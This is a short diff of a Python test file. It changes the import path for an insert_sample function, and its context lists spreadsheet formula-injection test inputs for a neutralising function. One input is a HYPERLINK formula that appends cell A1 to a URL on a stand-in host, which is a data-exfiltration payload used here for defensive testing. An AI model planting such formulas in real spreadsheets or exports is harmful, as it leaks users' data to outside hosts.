@@ -10,7 +10,7 @@ import pytest
 from conftest import Run, process_row, sample
 
 from perftrack.reading.spreadsheet import neutralised
-from perftrack.storage.database import insert_sample
+from perftrack.storage.insertion import insert_sample
 
 FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&A1,"java, click")', "=")
 PLAIN = ("java", "1=1", " =1", "'=1", "", "\\x3d1", "ünï")
